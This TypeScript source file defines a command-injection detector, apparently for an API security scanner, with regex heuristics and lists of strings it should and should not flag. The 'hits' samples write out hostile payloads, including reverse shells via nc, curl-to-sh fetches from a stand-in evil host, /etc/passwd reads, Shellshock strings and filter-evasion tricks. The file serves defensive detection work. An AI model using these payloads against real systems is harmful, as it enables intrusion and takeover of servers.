import { defineAttack } from '../define-attack.ts';
import { commandsOf } from '../languages/shell/commands.ts';
import { disguisedIn } from '../languages/shell/disguises.ts';
import { codeIn } from '../languages/shell/runners.ts';
import { commands, commonWords, programNames } from '../languages/shell/words.ts';
import { sign } from '../signs.ts';
import { isUnopenedQuote } from '../unopened-quote.ts';

/** What people tell each other to type: a tool, with neither a path from the root nor code for it to run. */
const everyday =
  /^\s{0,8}(?:wget|curl|chmod|chown|python3?|gcc|[ef]?grep|sed|openssl|scp|ssh|rsync|psql|mysql|kubectl|systemctl|mkdir|rmdir|rm|cp|mv|ln|ls|df|du|ps|sudo|docker|make|tar|zip|unzip)(?=\s)(?!.{0,200}(?:\s["'=]?(?:\/|[a-z]:\\|-[a-z]*[ce]\s)|[|&;<>`$]))/i;

const sentence = /(?:\p{L}{2,20}[,;:]?\s{1,3}){4}\p{L}|[\u3040-\u30ff\u4e00-\u9fff]{6}/u;
const windowsTool = /^\s{0,8}(?:net|reg)\s/i;
const threeWords = /^(?:\s+-{1,2}\w[\w-]{0,16})?(?:\s+\p{L}[\p{L}’']{1,20}[,;]?){3}/u;
const sentenceEnd = /[\p{L})"'»«“”][.!?…。][)"'»«“”]?\s*$/u;
const sentenceMax = 400;
const spanMax = 200;
const wordsOfSentence = 4;

/** Nothing more, where a row of a table would go on. */
const tableEnd = /^[ \t]{0,8}\|?\s{0,8}$/;

/** A pipe that begins a line begins a row: no shell reads one there. */
const rowStart = /\n[ \t]*\|$/;

/** The end of a value that leaves a quote open behind it, or makes a comment of what follows it. */
const reopened = /[\s;|&]["'`]\s{0,8}$|[\s;]#\s{0,8}$/;
const reopenedMax = 16;

/** Whether a separator, and what it separates from, follow a quote that nothing in the text has opened. */
function leavesQuotes(text: string, from: number): boolean {
  let at = from - 1;
  while (at >= 0 && /[\s;|&]/.test(text[at] ?? '')) at -= 1;
  const quote = text[at];
  return at < from - 1 && (quote === '"' || quote === "'") && isUnopenedQuote(text, at);
}

/** Commands of a shell where a value belongs (CWE-78), and code that runs one (CWE-94). A word alone is none: it needs a separator, arguments, or both. */
export const commandInjection = defineAttack({
  id: 'command-injection',
  title: 'Command and code injection',
  cwe: 'CWE-78',
  owasp: 'API8:2023',
  gates: [
    sign.semicolon |
      sign.pipe |
      sign.ampersand |
      sign.backtick |
      sign.dollar |
      sign.lineBreak |
      sign.slash |
      sign.dash |
      sign.paren |
      sign.less |
      sign.backslash,
    ~(sign.letter | sign.digit | sign.dash | sign.underscore | sign.dot | sign.colon),
  ],
  words: [...commands, ...commonWords].map((command) => command.replace(/[^a-z].*/, '')),
  features: {
    chained: 'begins a command behind a separator',
    'chained-alone': 'begins a command behind a separator and ends',
    substituted: 'puts a command where its output belongs',
    arguments: 'gives a command its arguments',
    'leaves-quotes': 'closes the quotes that it stands in and begins a command',
    reopened: 'leaves quotes open for what follows, or makes a comment of it',
    'by-path': 'names a program by its path',
    'bare-command': 'is a command with arguments',
    'bare-tool': 'is a line of everyday work at a shell',
    'blank-variable': 'writes its blanks so that a filter does not see them',
    'broken-word': 'writes a word so that a filter does not see it',
    redirect: 'sends output to a file or the network',
    shellshock: 'defines a function where an environment belongs (CVE-2014-6271)',
    include: 'is a directive of server-side includes',
    code: 'calls a function that runs what it is given',
  },
  look({ text, signs }, _field, note) {
    // Lines between fences are code that somebody shows.
    const isDocument = (signs & sign.backtick) !== 0 && text.includes('```');
    for (const command of commandsOf(text)) {
      const { lead, isCommon, hasArguments, hasPlainArguments, hasFile, isAlone, isListed, isByPath, isTelling, start, end } = command;
      const isBehind = start < 2;
      const isStrong = !isCommon || isByPath;
      if (lead === 'line' && (isDocument || ((isCommon || command.isName) && isWrapped(text, start, end)))) continue;
      if (lead === 'semicolon' && !hasArguments && !isAlone && wordsOf(text.slice(Math.max(0, start - spanMax), start)) >= wordsOfSentence)
        continue;
      if (lead === 'start') {
        if (
          hasPlainArguments &&
          (isStrong ||
            windowsTool.test(text) ||
            /^\s*(?:cat|ping|echo|find|head|tail|nmap|dig|host|type|dir)\s+(?:-|\/|\\|\.\.|["'$]|[a-z]:|\d|%\w)/i.test(text))
        )
          note(isEveryday(text) || isSentence(text, end) ? 'bare-tool' : 'bare-command', start, end);
        else if (isByPath && isAlone) note('by-path', start, end);
        continue;
      }
      if (lead === 'backtick') {
        const isRun = (isStrong && !command.isName) || hasArguments || hasFile || (isAlone && isTelling) || isBehind;
        if (isRun && !isMarked(text, start, end)) note('substituted', start, end);
        continue;
      }
      const isWhole = isBehind && isTelling && tableEnd.test(text.slice(end));
      if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments && !isWhole) continue;
      if (lead === 'substitution') {
        if (isStrong || hasArguments || hasFile || (isAlone && isTelling)) note('substituted', start, end);
      } else if (
        isStrong &&
        (hasArguments ||
          (isAlone && !isPlainName(text, start, end)) ||
          isBehind ||
          !(command.isName || lead === 'ampersand' || lead === 'line'))
      )
        note('chained', start, end);
      else if (hasPlainArguments) note('chained', start, end);
      else if (
        isAlone &&
        isTelling &&
        !(lead === 'pipe' && (choices.test(text) || rowStart.test(text.slice(Math.max(0, start - reopenedMax), start)))) &&
        (lead !== 'ampersand' || start < 3) &&
        (lead !== 'line' || start < 3) &&
        !/\w\s+\S*\w\W*\s|[a-z];\s/i.test(text.slice(0, start + 1))
      )
        note('chained-alone', start, end);
      if (hasArguments || hasFile) note('arguments', start, end);
      if (isByPath) note('by-path', start, end);
      if (!leavesQuotes(text, start)) continue;
      note('leaves-quotes', start, end);
      const open = reopened.exec(text.slice(-reopenedMax));
      if (open) note('reopened', text.length - open[0].length, text.length);
    }
    if ((signs & sign.dollar) !== 0 && /\$\{?IFS\b/.test(text)) note('blank-variable', text.indexOf('IFS'), text.indexOf('IFS') + 3);
    const broken =
      (signs & (sign.quote | sign.doubleQuote | sign.backslash | sign.slash | sign.dollar)) === 0
        ? null
        : /\b(?:c['"\\]+a['"\\]*t|w['"\\]*h['"\\]+o['"\\]*a|\/[?*][?*a-z]{1,12}\/[?*a-z]{0,12}[?*]|\$\{\w+:\d+:\d+\})/i.exec(text);
    if (broken) note('broken-word', broken.index, broken.index + broken[0].length);
    const redirect =
      (signs & (sign.greater | sign.less | sign.slash)) === 0
        ? null
        : />\s*(?:\/(?:tmp|dev|var|etc|root|home)\b|&\d)|\/dev\/(?:tcp|udp)\/|<\s*\/etc\//i.exec(text);
    if (redirect) note('redirect', redirect.index, redirect.index + redirect[0].length);
    const shock =
      (signs & sign.paren) === 0
        ? null
        : /(?<![\w$]\s{0,2})\(\)\s{0,8}\{(?:[^}]{0,48}\}\s{0,8}(?:;|>_?\[\$\()|\s{0,8}\(\w{1,8}\)=>\\)/.exec(text);
    if (shock) note('shellshock', shock.index, text.length);
    const include = (signs & sign.less) === 0 ? null : /<!--#(?:exec|include|echo|config|printenv|set)\b/i.exec(text);
    if (include) note('include', include.index, include.index + include[0].length);
    const hidden = disguisedIn(text);
    if (hidden) note('chained', hidden.index, hidden.index + hidden[0].length);
    const code = (signs & (sign.paren | sign.less | sign.colon | sign.percent)) === 0 ? null : codeIn(text);
    if (code) note('code', code.index, code.index + code[0].length);
  },
  worst: (length) => ';id '.repeat(Math.ceil(length / 4)).slice(0, length),
  samples: {
    hits: [
      '; cat /etc/passwd',
      '127.0.0.1 && whoami',
      '`id`',
      '$(curl http://evil.example/x)',
      'x|ls -la',
      '() { :;}; /bin/bash -c id',
      ';cat${IFS}/etc/passwd',
      'ls -la /var/www',
      'rm -rf /srv/shop',
      'curl https://evil.example/x|sh',
      "python3 -c 'import os'",
      '() { _; } >_[$($())] { id; }',
      "() { (a)=>\\' id",
      '<!--#exec cmd="ls" -->',
      "system('id')",
      '| nc -e /bin/sh 10.0.0.1 4444',
      '/bin/sh',
      '(x|id',
      '& nslookup evil.example',
      'The list of what was ordered\ncat /etc/passwd',
      '& for /f "tokens=*" %a in (\'ver\') do @echo %a',
      ';/???/t?c /???/gr??p',
      ';x=ta;y=il;$x$y /srv/orders.csv',
      "';exit(md5('k'));//",
      "'.shell_exec($c).'",
      '& start-sleep -s 9',
      '127.0.0.1|TYPE c:\\notes.txt',
      'label"; cat notes.txt; echo "',
      "a' | tail orders.csv #",
      'name"\nid\necho "',
      '$(cat notes.txt)',
      '`id 1>&2`',
      ';/bin/c?t notes.txt',
      ";$'\\x69\\x64'",
      ';x=i;y=d;$x$y',
      ';if [ 7 = 7 ];then sleep 9;fi',
      ';find / -name orders.csv',
      ';w$()hoami',
      '& copy \\\\evil.example\\x a.exe',
      '; Get-Content c:\\orders.csv',
      ';$env:PATH',
      '& %COMSPEC% /c ver',
      ';dig evil.example',
      ';exec id',
      ';. /srv/orders.sh',
      '--upload-pack=touch /tmp/x',
      "array_map('system', array('id'))",
      '%x(id)',
      'T(org.example.Shop).open()',
      '|id|',
      'net user jane Secret-1 /add',
    ],
    misses: [
      '**/?(*.)+(spec|test).+(ts|js)',
      'chown -hR root /srv changes the owner of the folder and of all files in it to “root”.',
      'Tom & Jerry',
      'salt; find out more',
      'He said "hello"; find the cat',
      'a 12" | cat toy',
      "the Jones'; last orders",
      'dog photo.jpg; cat photo.jpg',
      'cat',
      'R&D and Marketing',
      'ls 300 lexus',
      'echo park; los angeles',
      'read/write | admin',
      'head & shoulders',
      'sort by date; then by name',
      'more than (10)',
      'id',
      'a;b;c',
      'Either `open`, `closed`, or `all`.',
      'Set it to `true` to keep the `id`.',
      'The commands `ls -la` and `df -h` show it',
      'See exec(3) and system(3).',
      'const found = pattern.exec(text)',
      'It calls `exec()` once.',
      '```sh\ncurl -I https://shop.example/\n```',
      'function() { return true };',
      'found in the first line of it; grep shows every line',
      'rm -rf node_modules',
      'curl https://api.example.com/v1/users',
      'sudo systemctl --user restart shop',
      '(id|name|date)',
      'How it is read can be found in\nfile src/shell.c of the sources.',
      'R&D & nslookup examples',
      'for (f of files) use 5 % in (all)',
      '/**/*.ts; /a?/b?',
      "'It ends.' (print it)",
      'Sum; $a $b / 2',
      'by {{PLURAL:$2|du groupe|des groupes}}: $1',
      '{{Related|Date}}',
      '.items[] | select(.status == "open") | {id, name: .metadata.name}',
      'They can be found\nat https://shop.example/docs/more/, or be asked for.',
      'telnetlib: a client of Telnet\nTelnet',
      'Fast and safe, for Rust & Python',
      'Shop API | Python library for it',
      'auto | first | last',
      'name | date',
      'sales | jobs',
      'go; rust; python',
      'php & mysql',
      'Default: `true`',
      'like `chown -R`',
      "The programs `lsof' and `fuser' show it.",
      "`Node`'s own name",
      'as in\n   {Perl} or {Python}, which read it',
      'registered&reg; trademarks of the shop',
      'tail -f works on files that only grow',
      'Languages: de | en | tr',
      '{{ value|date }}',
      'exec(command [, options])',
      'What phpinfo(), the page, shows',
      '--checkpoint-action=ACTION',
      'print the list;\n  print $line;',
      '| id | name |\n|----|----|\n| 7 | Jane |',
      '| date | sum |',
      '|w|h|\n|-|-|',
      'Kundendienst;Export-Service',
      'Import-Service;Export-Service;Test-Service',
      'State\nNew-Item\nOld-Item',
      'Menu\nStart-Location near the door',
      '\nwhich cat food is best',
      '\nwhich python do you use?',
      '; which cat food is best',
      '\nrun --help',
      '& sons -w',
      'Find / Replace',
      'Search & find / replace',
      'Wir & docker images',
      'vm & docker run faster',
      'Networks: TCP & ip link',
      'see; host shop.example',
      '0x%x(hex)',
      '| date\n| time',
      'Wir & docker ps',
      '& bread / butter',
      '; see /etc for more',
      '\n. /note',
      '\ncd /srv/shop; make',
    ],
  },
});

/**
 * Markdown writes names between backticks, and code between fences: then something else than the command is said around it, or two backticks stand
 * side by side. What a shell substitutes is nearly all of a value.
 */
function isMarked(text: string, start: number, end: number): boolean {
  if (text.charCodeAt(start - 2) === 0x60 || text.charCodeAt(start) === 0x60) return true;
  const close = text.slice(end, end + spanMax).indexOf('`');
  const inside = text.slice(start, end + Math.max(0, close));
  if (onlyFlags.test(inside) && /\p{L}{2}\)? \(?$|^\W{0,4}$/u.test(text.slice(Math.max(0, start - 5), start - 1))) return close >= 0;
  const around = `${text.slice(Math.max(0, start - 1 - spanMax), start - 1)} ${close < 0 ? '' : text.slice(end + close + 1, end + close + 1 + spanMax)}`;
  return wordsOf(around) >= (inside.trim().includes(' ') ? 3 : 2);
}

/** `ls -R`: nothing but how, where words speak of it. */
const onlyFlags = /^[a-z][\w-]{0,20}(?: -{1,2}[a-z][\w-]{0,20}){1,3}$/i;

/** The name of a language or a program that is none of a shell, alone behind another word. */
function isPlainName(text: string, start: number, end: number): boolean {
  const name = text.slice(start, end).trim().toLowerCase();
  return programNames.has(name) && !/^(?:ba|z|k)sh$/.test(name);
}

/** Names of fields and kinds with a pipe between them, of which the last is a command's as well. */
const choices =
  /^[\p{L}\d_-]{1,24}(?: \| [\p{L}\d_-]{1,24}){0,8} \| (?:date|time|set|history|mount|route|export|alias|hostname|calc|notepad|last)$/u;

function isEveryday(text: string): boolean {
  return everyday.test(text.slice(0, spanMax));
}

/** Whether a line begins within a sentence, with a word of it: words and no full stop stand before it, and no path of the system behind it. */
function isWrapped(text: string, start: number, end: number): boolean {
  const before = text.slice(Math.max(0, start - 1 - spanMax), start - 1);
  const line = before.slice(before.lastIndexOf('\n') + 1).trim();
  return /[\p{L}\d,]$/u.test(line) && wordsOf(line) >= wordsOfSentence && !systemPath.test(text.slice(end, end + spanMax));
}

const systemPath = /^[^\n]{0,40}[\s"']\/(?:etc|proc|bin|usr|dev|tmp|var|root|home)\b/;

/** Whether a command is what a sentence begins with: words of people follow its arguments, up to a full stop, or three of them at once. */
function isSentence(text: string, from: number): boolean {
  const rest = text.slice(from, from + sentenceMax);
  return (
    (sentenceEnd.test(text.slice(-reopenedMax)) && sentence.test(rest)) ||
    (threeWords.test(rest) && !/[|;&<>$`]/.test(rest) && !windowsTool.test(text))
  );
}

function wordsOf(text: string): number {
  return text.match(/\p{L}{2,}/gu)?.length ?? 0;
}
